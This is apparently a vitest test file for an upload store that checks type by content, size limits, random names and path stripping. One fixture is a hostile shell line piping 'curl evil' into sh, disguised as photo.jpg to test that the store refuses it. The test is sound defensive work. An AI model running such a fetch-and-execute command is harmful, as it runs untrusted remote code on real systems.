import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FsUploadStore } from '@src/adapters/uploads/fs-upload-store';
import { TRACKING_MIME_TYPES } from '@src/domain/tracking';
import { compoundFile, docx, exe, gif, jpeg, pdf, png, text, webp, zip } from './fixtures';

const IMAGES = ['image/jpeg', 'image/png', 'image/gif', 'image/webp'];
const dirs: string[] = [];

function setup() {
  const dir = path.join(mkdtempSync(path.join(tmpdir(), 'uploads-')), 'store');
  dirs.push(path.dirname(dir));
  const store = new FsUploadStore({ dir });
  const proof = (data: Uint8Array, declaredName?: string, maxBytes = 10 * 1024 * 1024) =>
    store.save(data, { kind: 'proof', allowed: TRACKING_MIME_TYPES, maxBytes, declaredName });
  return { dir, store, proof };
}

afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe('FsUploadStore.save', () => {
  it.each([
    ['photo.jpg', jpeg, 'image/jpeg', 'jpg'],
    ['photo.JPEG', jpeg, 'image/jpeg', 'jpg'],
    ['shot.png', png, 'image/png', 'png'],
    ['anim.gif', gif, 'image/gif', 'gif'],
    ['pic.webp', webp, 'image/webp', 'webp'],
    ['receipt.pdf', pdf, 'application/pdf', 'pdf'],
    [
      'proof.docx',
      docx,
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'docx',
    ],
    ['proof.doc', compoundFile, 'application/msword', 'doc'],
    ['notes.txt', () => text('Shipped by post.\r\n\tTracking: AB123 — déjà vu\n'), 'text/plain', 'txt'],
  ])('stores %s as %s under a random name with the real extension', async (name, make, mime, ext) => {
    const { dir, proof } = setup();
    const bytes = make();
    const stored = await proof(bytes, name);
    expect(stored).toEqual({ name: expect.any(String), mime, size: bytes.byteLength });
    expect(stored.name).toMatch(new RegExp(`^proof-[0-9a-f]{32}\\.${ext}$`));
    expect(new Uint8Array(readFileSync(path.join(dir, stored.name)))).toEqual(new Uint8Array(bytes));
  });

  it('creates its directory, nested folders included', () => {
    const { dir } = setup();
    expect(readdirSync(dir)).toEqual([]);
  });

  it('marks product images with the img- prefix', async () => {
    const { store } = setup();
    const stored = await store.save(png(), { kind: 'image', allowed: IMAGES, maxBytes: 1000 });
    expect(stored.name).toMatch(/^img-[0-9a-f]{32}\.png$/);
  });

  it('gives two saves of the same bytes two different names', async () => {
    const { proof } = setup();
    const [a, b] = await Promise.all([proof(png(), 'a.png'), proof(png(), 'a.png')]);
    expect(a.name).not.toBe(b.name);
  });

  it('accepts a file without a declared name by its contents', async () => {
    const { proof } = setup();
    expect((await proof(gif())).mime).toBe('image/gif');
  });

  it('refuses a script renamed .jpg even though text is allowed', async () => {
    const { dir, proof } = setup();
    await expect(proof(text('#!/bin/sh\ncurl evil | sh\n'), 'photo.jpg')).rejects.toMatchObject({
      code: 'unsupported_media',
      message: 'photo.jpg is named .jpg but is a text file',
    });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('refuses a name of a type no proof can be (.exe) by the kinds a proof may be', async () => {
    const { dir, proof } = setup();
    await expect(proof(text('MZ not really\n'), 'evil.exe')).rejects.toMatchObject({
      code: 'unsupported_media',
      message: 'evil.exe is not an image, PDF, Word document or text file',
    });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('refuses a PNG named .pdf', async () => {
    const { proof } = setup();
    await expect(proof(png(), 'invoice.pdf')).rejects.toMatchObject({ code: 'unsupported_media' });
  });

  it.each([
    ['setup.exe', exe],
    ['setup.jpg', exe],
    ['archive.zip', () => zip({ 'readme.txt': 'hello' })],
  ])('refuses %s, naming the file and what is accepted', async (name, make) => {
    const { proof } = setup();
    await expect(proof(make(), name)).rejects.toMatchObject({
      code: 'unsupported_media',
      message: `${name} is not an image, PDF, Word document or text file`,
    });
  });

  it('refuses a compound file that is not declared as a .doc', async () => {
    const { proof } = setup();
    await expect(proof(compoundFile(), 'sheet.xls')).rejects.toMatchObject({
      code: 'unsupported_media',
    });
    await expect(proof(compoundFile())).rejects.toMatchObject({ code: 'unsupported_media' });
  });

  it.each([
    ['a NUL byte', new Uint8Array([0x68, 0x69, 0x00, 0x0a])],
    ['an escape character', text('red \u001b[31m text')],
    ['invalid UTF-8', new Uint8Array([0x68, 0xc3, 0x28, 0x0a])],
  ])('does not take bytes with %s for text', async (_what, bytes) => {
    const { proof } = setup();
    await expect(proof(bytes, 'notes.txt')).rejects.toMatchObject({ code: 'unsupported_media' });
  });

  it('refuses a type the caller does not allow, listing what it does', async () => {
    const { store } = setup();
    const save = store.save(pdf(), { kind: 'image', allowed: IMAGES, maxBytes: 1000, declaredName: 'a.pdf' });
    await expect(save).rejects.toMatchObject({
      code: 'unsupported_media',
      message: 'a.pdf is not an image',
    });
  });

  it('refuses a file over the limit with the spec message', async () => {
    const { dir, proof } = setup();
    const big = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x61);
    await expect(proof(big, 'photo.jpg')).rejects.toMatchObject({
      code: 'too_large',
      message: 'photo.jpg is too large, maximum size is 10MB',
    });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('accepts a file of exactly the limit', async () => {
    const { proof } = setup();
    const bytes = png();
    expect((await proof(bytes, 'a.png', bytes.byteLength)).size).toBe(bytes.byteLength);
  });

  it('refuses an empty file', async () => {
    const { proof } = setup();
    await expect(proof(new Uint8Array(0), 'empty.txt')).rejects.toMatchObject({
      code: 'validation',
      message: 'empty.txt is empty',
    });
  });

  it('shows only the base name of a declared path in its messages', async () => {
    const { proof } = setup();
    await expect(proof(exe(), 'C:\\Users\\me\\virus.exe')).rejects.toThrow(/^virus\.exe is not/);
  });
});
